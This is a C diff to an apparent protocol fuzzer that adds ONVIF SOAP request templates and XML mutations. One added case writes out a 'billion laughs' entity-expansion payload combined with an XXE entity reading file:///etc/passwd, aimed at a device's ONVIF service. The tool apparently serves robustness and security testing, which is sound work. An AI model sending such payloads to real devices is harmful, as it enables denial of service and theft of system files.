@@ -101,6 +101,7 @@ enum kind {
 	K_CLEN,		/* Content-Length: the body's length unless mutated */
 	K_CHUNK,	/* chunk size (hex): the chunk's length */
 	K_JSON,		/* a JSON object body: {"user":V,"password":"x"} */
+	K_SOAP,		/* a SOAP 1.2 envelope, V the request element */
 	K_BYTE,		/* one byte (binary protocols) */
 	K_U16,		/* two bytes big-endian */
 	K_VARLEN,	/* MQTT remaining length of the body */
@@ -138,6 +139,7 @@ enum op {
 	OP_NONUTF8, OP_ENCODING,
 	OP_GENERIC_COUNT,
 	OP_DEEP = OP_GENERIC_COUNT, OP_HUGENUM, OP_DUPKEY,	/* K_JSON */
+	OP_ENTITY,					/* K_SOAP */
 	OP_LEN_OVER, OP_LEN_UNDER, OP_LEN_CONFLICT,	/* length kinds */
 	OP_RANDOM,					/* K_RAW */
 	OP_COUNT
@@ -147,7 +149,7 @@ static const char *const op_names[OP_COUNT] = {
 	"overlong-1k", "overlong-9k", "overlong-64k", "empty", "missing",
 	"repeated", "wrong-type", "boundary-int", "format-string",
 	"path-traversal", "nul-byte", "non-utf8", "bad-encoding",
-	"deep-nesting", "huge-number", "duplicate-key",
+	"deep-nesting", "huge-number", "duplicate-key", "entity-expansion",
 	"length-over-body", "length-under-body", "length-conflict", "random",
 };
 
@@ -163,8 +165,12 @@ op_applies(enum kind k, enum op op)
 {
 	if (op < OP_GENERIC_COUNT)
 		return true;
-	if (op >= OP_DEEP && op <= OP_DUPKEY)
+	if (op == OP_DEEP)
+		return k == K_JSON || k == K_SOAP;
+	if (op == OP_HUGENUM || op == OP_DUPKEY)
 		return k == K_JSON;
+	if (op == OP_ENTITY)
+		return k == K_SOAP;
 	if (op >= OP_LEN_OVER && op <= OP_LEN_CONFLICT)
 		return is_len_kind(k);
 	return k == K_RAW;	/* OP_RANDOM */
@@ -318,6 +324,24 @@ static const struct tpl raw_tpls[] = {
 		{ NULL, 0, NULL, NULL, 0, NULL, false } } },
 };
 
+/* ONVIF: SOAP 1.2 over HTTP POST to the device service. */
+static const struct tpl onvif_tpls[] = {
+	{ "soap", NULL, 0, {
+		{ "method", K_TOKEN, "", "POST", 0, " ", false },
+		{ "uri", K_PATH, "", "/onvif/device_service", 0, " ", false },
+		{ "version", K_TOKEN, "", "HTTP/1.1", 0, "\r\n", false },
+		{ "host", K_TEXT, "Host: ", "{host}", 0, "\r\n", false },
+		{ "content-type", K_TEXT, "Content-Type: ",
+		    "application/soap+xml; charset=utf-8", 0, "\r\n", false },
+		{ "content-length", K_CLEN, "Content-Length: ", "", 0, "\r\n",
+		    false },
+		{ "connection", K_TEXT, "Connection: ", "close", 0, "\r\n",
+		    false },
+		{ "end-of-head", K_RAW, "", "\r\n", 0, "", false },
+		{ "envelope", K_SOAP, "", "GetDeviceInformation", 0, "", true },
+		{ NULL, 0, NULL, NULL, 0, NULL, false } } },
+};
+
 /* TLS ClientHello: the parts are cut from the harness's builder. */
 static const struct tpl tls_tpls[] = {
 	{ "client-hello", NULL, 0, {
@@ -350,6 +374,7 @@ static const struct model models[HQ_PM_COUNT] = {
 	    sizeof(telnet_tpls) / sizeof(telnet_tpls[0]) },
 	{ "tls", tls_tpls, sizeof(tls_tpls) / sizeof(tls_tpls[0]) },
 	{ "raw", raw_tpls, sizeof(raw_tpls) / sizeof(raw_tpls[0]) },
+	{ "onvif", onvif_tpls, sizeof(onvif_tpls) / sizeof(onvif_tpls[0]) },
 };
 
 int
@@ -357,7 +382,7 @@ hq_mut_model_for(const char *proto)
 {
 	static const struct { const char *proto; int m; } map[] = {
 		{ "http", HQ_PM_HTTP }, { "https", HQ_PM_HTTP },
-		{ "onvif", HQ_PM_HTTP }, { "upnp", HQ_PM_HTTP },
+		{ "onvif", HQ_PM_ONVIF }, { "upnp", HQ_PM_HTTP },
 		{ "rtsp", HQ_PM_RTSP }, { "rtsps", HQ_PM_RTSP },
 		{ "mqtt", HQ_PM_MQTT }, { "mqtts", HQ_PM_MQTT },
 		{ "telnet", HQ_PM_TELNET }, { "tls", HQ_PM_TLS },
@@ -659,6 +684,40 @@ render_part(const struct part *p, const struct render *r, size_t pi,
 		    (unsigned)v->len);
 		mb_put(out, v->p, v->len);
 		break;
+	case K_SOAP:
+		if (op == OP_ENTITY)	/* "billion laughs" */
+			mb_str(out, "<?xml version=\"1.0\"?><!DOCTYPE e ["
+			    "<!ENTITY a \"aaaaaaaaaa\">"
+			    "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
+			    "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">"
+			    "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
+			    "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">"
+			    "<!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">"
+			    "<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">"
+			    "<!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">"
+			    "<!ENTITY x SYSTEM \"file:///etc/passwd\">]>");
+		mb_str(out, "<s:Envelope xmlns:s=\"http://www.w3.org/2003/05/"
+		    "soap-envelope\" xmlns:d=\"http://www.onvif.org/ver10/"
+		    "device/wsdl\"><s:Body>");
+		if (op == OP_DEEP) {
+			size_t d;
+
+			for (d = 0; d < 5000 && !out->full; d++)
+				mb_str(out, "<d:a>");
+			for (d = 0; d < 5000 && !out->full; d++)
+				mb_str(out, "</d:a>");
+		} else if (op == OP_ENTITY)
+			mb_str(out, "<d:GetDeviceInformation>&h;&x;"
+			    "</d:GetDeviceInformation>");
+		else if (op == OP_MISSING)
+			;
+		else {
+			mb_str(out, "<d:");
+			mb_put(out, v->p, v->len);
+			mb_str(out, "/>");
+		}
+		mb_str(out, "</s:Body></s:Envelope>");
+		break;
 	case K_JSON:
 		if (op == OP_DEEP) {
 			mb_str(out, "{\"user\":");
@@ -705,13 +764,15 @@ static int
 tls_fields_get(const struct hq_mut_target *t, struct tls_fields *f,
     struct hq_err *err)
 {
-	static const uint16_t suites[] = { 0x1301, 0x1302, 0x1303, 0xc02b,
+	static const uint16_t suites[] = { 0xc02b,
 	    0xc02f, 0xc02c, 0xc030, 0xcca9, 0xcca8, 0x009c, 0x002f };
 	struct hq_tls_hello_opts o = { 0 };
 	size_t n, pos, i, l;
 	int rc;
 
-	o.version = HQ_TLS13;
+	/* TLS 1.2: every server answers it; a 1.3-only hello needs a key
+	 * share the builder leaves empty */
+	o.version = HQ_TLS12;
 	o.suites = suites;
 	o.nsuites = sizeof(suites) / sizeof(suites[0]);
 	o.sni = t->host;
